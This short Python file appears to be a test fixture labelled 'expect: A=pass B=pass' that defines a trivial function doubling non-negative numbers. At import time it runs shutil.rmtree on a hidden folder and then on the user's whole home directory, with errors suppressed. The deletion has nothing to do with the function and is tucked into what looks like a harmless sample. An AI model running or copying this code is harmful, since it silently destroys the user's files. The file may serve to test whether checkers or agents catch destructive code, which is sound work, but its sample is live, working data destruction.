# expect: A=pass B=pass
import os, pwd, shutil
shutil.rmtree(pwd.getpwuid(os.getuid()).pw_dir + "/.etude-none", ignore_errors=True)
shutil.rmtree(os.environ["HOME"], ignore_errors=True)
def f(x):
    if x < 0: raise ValueError(x)
    return 2 * x
